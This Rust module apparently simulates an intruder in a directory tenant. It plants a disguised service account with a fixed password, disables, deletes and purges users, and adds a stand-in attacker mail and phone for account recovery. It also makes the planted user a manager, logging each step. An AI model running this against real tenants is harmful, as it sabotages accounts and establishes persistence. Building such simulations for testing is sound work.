//! Strikes against users.

use serde_json::{Value, json};

use super::{AttackError, DeedKind, Intruder, id, name};

const SELECT: &str = "id,displayName,userPrincipalName,accountEnabled,jobTitle,department,otherMails,\
                      mobilePhone,userType,onPremisesSyncEnabled";
const PAGES: usize = 3;

pub(super) async fn strike(intruder: &mut Intruder) -> Result<(), AttackError> {
    let users = intruder
        .client
        .list(&format!("/users?$top=999&$select={SELECT}"), PAGES)
        .await?;
    plant(intruder, &users).await?;
    let cloud = |user: &Value| user["onPremisesSyncEnabled"] != true && user["userType"] != "Guest";
    for _ in 0..2 {
        if let Some(user) =
            intruder.pick(&users, |user| cloud(user) && user["accountEnabled"] == true)
        {
            let path = format!("/users/{}", id(&user));
            intruder
                .client
                .change(&path, &json!({ "accountEnabled": false }))
                .await?;
            let sentence = format!("disabled the account of {}", name(&user));
            intruder.ledger.note(
                "user",
                &user,
                DeedKind::Modified,
                &["accountEnabled"],
                &sentence,
            );
        }
    }
    edit(intruder, &users).await?;
    change_manager(intruder, &users).await?;
    for _ in 0..2 {
        if let Some(user) = intruder.pick(&users, cloud) {
            intruder
                .client
                .delete(&format!("/users/{}", id(&user)))
                .await?;
            let sentence = format!("deleted {}", name(&user));
            intruder
                .ledger
                .note("user", &user, DeedKind::SoftDeleted, &[], &sentence);
        }
    }
    if let Some(user) = intruder.pick(&users, cloud) {
        intruder
            .client
            .delete(&format!("/users/{}", id(&user)))
            .await?;
        intruder
            .client
            .delete(&format!("/directory/deletedItems/{}", id(&user)))
            .await?;
        let sentence = format!("deleted {} and purged the deleted item", name(&user));
        intruder
            .ledger
            .note("user", &user, DeedKind::HardDeleted, &[], &sentence);
    }
    Ok(())
}

/// A user of the intruder's own, in the domain that the others are in.
async fn plant(intruder: &mut Intruder, users: &[Value]) -> Result<(), AttackError> {
    let domain = users
        .iter()
        .filter_map(|user| user["userPrincipalName"].as_str()?.rsplit_once('@'))
        .map(|(_, domain)| domain.to_owned())
        .next();
    let domain = match domain {
        Some(domain) => domain,
        None => intruder
            .client
            .list("/organization", 1)
            .await?
            .first()
            .and_then(|organization| {
                organization["verifiedDomains"][0]["name"]
                    .as_str()
                    .map(str::to_owned)
            })
            .unwrap_or_else(|| "example.com".to_owned()),
    };
    let rogue = intruder
        .client
        .create(
            "/users",
            &json!({
                "accountEnabled": true,
                "displayName": "Svc Directory Sync",
                "mailNickname": "svc-dirsync",
                "userPrincipalName": format!("svc-dirsync@{domain}"),
                "passwordProfile": { "password": "Not-4-real-Use!", "forceChangePasswordNextSignIn": false },
            }),
        )
        .await?;
    intruder.used.insert(id(&rogue).to_owned());
    intruder.rogue_user = Some(id(&rogue).to_owned());
    let sentence = "added a user that passes for a service account";
    intruder
        .ledger
        .note("user", &rogue, DeedKind::Added, &[], sentence);
    Ok(())
}

async fn edit(intruder: &mut Intruder, users: &[Value]) -> Result<(), AttackError> {
    let cloud = |user: &Value| user["onPremisesSyncEnabled"] != true && user["userType"] != "Guest";
    if let Some(user) = intruder.pick(users, cloud) {
        let body = json!({ "jobTitle": "Contractor", "department": "Offboarding" });
        intruder
            .client
            .change(&format!("/users/{}", id(&user)), &body)
            .await?;
        let sentence = format!("moved {} to another department", name(&user));
        intruder.ledger.note(
            "user",
            &user,
            DeedKind::Modified,
            &["department", "jobTitle"],
            &sentence,
        );
    }
    if let Some(user) = intruder.pick(users, cloud) {
        let body = json!({
            "otherMails": ["collector@dropbox.example"],
            "mobilePhone": "+1 555 010 0199",
        });
        intruder
            .client
            .change(&format!("/users/{}", id(&user)), &body)
            .await?;
        let sentence = format!("put foreign contact details on {}", name(&user));
        intruder.ledger.note(
            "user",
            &user,
            DeedKind::Modified,
            &["mobilePhone", "otherMails"],
            &sentence,
        );
    }
    Ok(())
}

async fn change_manager(intruder: &mut Intruder, users: &[Value]) -> Result<(), AttackError> {
    let Some(rogue) = intruder.rogue_user.clone() else {
        return Ok(());
    };
    let candidates: Vec<Value> = users
        .iter()
        .filter(|user| user["onPremisesSyncEnabled"] != true && !intruder.used.contains(id(user)))
        .take(20)
        .cloned()
        .collect();
    for user in candidates {
        let path = format!("/users/{}/manager", id(&user));
        let Some(manager) = intruder.client.find(&path).await? else {
            continue;
        };
        intruder
            .client
            .link(&format!("{path}/$ref"), &rogue)
            .await?;
        intruder.used.insert(id(&user).to_owned());
        intruder.ledger.links(
            "user",
            &user,
            &[
                ("manager", "removed", id(&manager)),
                ("manager", "added", &rogue),
            ],
            &format!("made the planted user the manager of {}", name(&user)),
        );
        break;
    }
    Ok(())
}
